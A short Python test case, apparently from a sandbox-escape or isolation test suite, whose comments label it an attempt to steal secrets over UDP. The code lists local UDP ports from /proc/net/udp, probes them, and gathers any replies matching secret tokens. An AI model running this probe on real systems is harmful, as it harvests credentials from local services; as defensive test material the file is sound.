# tries: to send datagrams out, which rules about connections do not cover
# fails: a network of its own has no way out (or sockets are refused)
# goal: steal
# stopped from: T1
# undefended: untried: what services say, and a way home for everything else
import re
import socket


def attack(*arguments, **keywords):
    found = []
    try:
        with open("/proc/net/udp") as table:
            ports = [int(line.split()[1].rpartition(":")[2], 16) for line in table.readlines()[1:]]
    except OSError:
        ports = []
    for port in ports[-64:]:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.settimeout(0.05)
                line.sendto(b"who are you?", ("127.0.0.1", port))
                found += re.findall(rb"secret-[0-9a-f]{16}", line.recv(4096))
        except OSError as error:
            found.append(error)
    raise RuntimeError(f"found {found}")
